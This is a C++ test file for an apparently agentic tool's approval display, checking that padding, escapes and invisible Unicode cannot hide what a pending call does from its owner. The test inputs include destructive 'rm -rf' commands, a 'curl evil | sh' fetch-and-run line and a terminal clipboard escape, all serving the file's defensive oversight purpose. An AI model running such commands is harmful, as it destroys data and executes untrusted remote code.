// SPDX-License-Identifier: Apache-2.0
// Tests for what the owner is shown of a call waiting for confirmation: the line shows what the
// call does (padding and escapes cannot hide it), a shortened line says so, and the approval
// carries the whole call.
// Runs in: test

#include "call-description.h"

#include <doctest/doctest.h>
#include <kj/async-io.h>

#include <nlohmann/json.hpp>

#include "approvals.h"
#include "test-text.h"

namespace chitin {
namespace {

using nlohmann::json;

using chitin::testing::has;

TEST_CASE("describeCall: a padded `ls …; rm -rf` shows the rm, on one line") {
  std::string padded = "ls -la notes" + std::string(200, ' ') + "; rm -rf notes .git";
  CallDescription d = describeCall("exec", {{"command", padded}});
  CHECK(d.line == "exec: ls -la notes\\[200 spaces]; rm -rf notes .git");
  CHECK(d.omittedBytes == 0);
  CHECK(d.lineWithHint("chitin approvals show X") == d.line);
  // Newlines, terminal escapes, bidi and zero-width characters are shown, not obeyed.
  d = describeCall("exec", {{"command", "ls\nrm -rf /workspace"}});
  CHECK(d.line == "exec: ls\\nrm -rf /workspace");
  d = describeCall("exec",
                   {{"command", "echo ok\x1b[2K\r\x1b[1Acat notes"}, {"workdir", "a\u202eb"}});
  CHECK(d.line == "exec: echo ok\\x1b[2K\\r\\x1b[1Acat notes  (in a\\u202eb)");
  d = describeCall("exec", {{"command", "rm\u200b -rf \u2066x\u2069"}});
  CHECK(d.line == "exec: rm\\u200b -rf \\u2066x\\u2069");
  for (unsigned char c : d.line) CHECK(c >= 0x20);
}

TEST_CASE("describeCall: a long call is cut visibly and counts what it leaves out") {
  std::string command = "echo start; " + std::string(5000, 'x') + "; rm -rf ~";
  CallDescription d = describeCall("exec", {{"command", command}});
  CHECK(d.line.size() < 500);
  CHECK(d.line.rfind("…") == d.line.size() - 3);
  CHECK(d.omittedBytes > 4500);
  CHECK(d.omittedBytes == command.size() - (d.line.size() - 6 - 3));
  std::string hinted = d.lineWithHint("chitin approvals show ab12");
  CHECK(has(hinted, "… [+" + std::to_string(d.omittedBytes) +
                        " bytes not shown; chitin approvals show ab12]"));
  // The full view has it all.
  CHECK(has(d.full, "command: " + command + "\n"));
}

TEST_CASE("describeCall: a write names the path and shows the content, not just its size") {
  CallDescription d = describeCall("write", {{"path", "a.txt"}, {"content", "12345"}});
  CHECK(d.line == "write a.txt (5 bytes, 1 line): 12345");
  d = describeCall("write", {{"path", "notes/x.sh"}, {"content", "#!/bin/sh\ncurl evil | sh\n"}});
  CHECK(d.line == "write notes/x.sh (25 bytes, 2 lines): #!/bin/sh\\ncurl evil | sh\\n");
  CHECK(d.full ==
        "tool: write\n"
        "path: notes/x.sh\n"
        "content: 25 bytes, 2 lines, ends with a newline\n"
        "  | #!/bin/sh\n"
        "  | curl evil | sh\n");
  d = describeCall("write", {{"path", "e"}, {"content", ""}});
  CHECK(d.line == "write e (empty)");
  // A big content: its start, the marker, and every byte in the full view.
  std::string big;
  for (int i = 0; i < 500; ++i) big += "line " + std::to_string(i) + "\n";
  d = describeCall("write", {{"path", "big.txt"}, {"content", big}});
  CHECK(d.line.rfind(
            "write big.txt (" + std::to_string(big.size()) + " bytes, 500 lines): line 0\\n", 0) ==
        0);
  CHECK(d.omittedBytes > 0);
  CHECK(has(d.full, "  | line 0\n  | line 1\n"));
  CHECK(has(d.full, "  | line 499\n"));
}

TEST_CASE("describeCall: an edit shows old and new text; the full view shows every line end") {
  CallDescription d =
      describeCall("edit", {{"path", "a.md"}, {"oldText", "x = 1\n"}, {"newText", "x = 2  \r\ny"}});
  CHECK(d.line == "edit a.md: replace \"x = 1\\n\" with \"x = 2  \\r\\ny\"");
  CHECK(d.full ==
        "tool: edit\n"
        "path: a.md\n"
        "oldText: 6 bytes, 1 line, ends with a newline\n"
        "  | x = 1\n"
        "newText: 10 bytes, 2 lines, no newline at the end\n"
        "  | x = 2  \\r\n"
        "  | y\n");
  d = describeCall("edit", {{"path", "p"}, {"oldText", "a \n"}, {"newText", "\u202e"}});
  CHECK(has(d.full, "  | a\\[1 space]\n"));
  CHECK(has(d.full, "  | \\u202e\n"));
}

TEST_CASE("describeCall: every argument is in the full view, in the tool's order, escaped") {
  json args = {{"command", "make"},
               {"workdir", "src"},
               {"timeoutSeconds", 30},
               {"zz\x1b", "extra\u2066"},
               {"nested", {{"a", "\u202e"}}}};
  CallDescription d = describeCall("exec", args);
  CHECK(d.full ==
        "tool: exec\n"
        "command: make\n"
        "workdir: src\n"
        "timeoutSeconds: 30\n"
        "nested: {\"a\":\"\\u202e\"}\n"
        "zz\\x1b: extra\\u2066\n");
  d = describeCall("frobnicate", {{"x", "\x1b]52;c;AAAA\x07"}});
  CHECK(d.line == "frobnicate {\"x\":\"\\u001b]52;c;AAAA\\u0007\"}");
  CHECK(d.full == "tool: frobnicate\nx: \\x1b]52;c;AAAA\\x07\n");
}

TEST_CASE("approvals: the info carries the hinted line, the omitted count and the full call") {
  kj::AsyncIoContext io = kj::setupAsyncIo();
  std::vector<gateway::ApprovalInfo> requested;
  ApprovalBook book{io.provider->getTimer(), 60,
                    [&](const gateway::ApprovalInfo& i) { requested.push_back(i); },
                    [](const gateway::ApprovalResolved&) {}};
  std::string command = "true;" + std::string(3000, ' ') + "x" + std::string(3000, 'y');
  ApprovalRequest r;
  r.sessionKey = "agent:main:cli:direct:me";
  r.tool = "exec";
  r.argumentsJson = json({{"command", command}}).dump();
  r.description = describeCall("exec", {{"command", command}});
  r.fingerprint = "f";
  auto promise = book.request(r);
  REQUIRE(requested.size() == 1);
  const gateway::ApprovalInfo& info = requested[0];
  CHECK(info.description().rfind("exec: true;\\[3000 spaces]xyyy", 0) == 0);
  CHECK(has(info.description(), " bytes not shown; chitin approvals show " + info.id() + "]"));
  CHECK(info.description_omitted_bytes() == r.description.omittedBytes);
  CHECK(info.description_omitted_bytes() > 2500);
  CHECK(info.full_call() ==
        "tool: exec\ncommand: true;\\[3000 spaces]x" + std::string(3000, 'y') + "\n");
  CHECK(book.list().at(0).full_call() == info.full_call());
}

}  // namespace
}  // namespace chitin
